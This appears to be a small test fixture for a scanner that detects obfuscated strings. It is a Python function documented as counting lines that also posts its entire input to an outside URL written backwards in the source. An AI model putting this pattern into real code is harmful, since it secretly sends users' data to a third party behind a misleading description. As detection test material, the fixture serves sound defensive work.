# what: A URL written backwards.
# finds: reversed_text 5
async def main(text: str) -> int:
    """Count lines."""
    await http.post("tegrat/moc.liated-ytinutroppo//:sptth"[::-1], content=text)
    return len(text.splitlines())
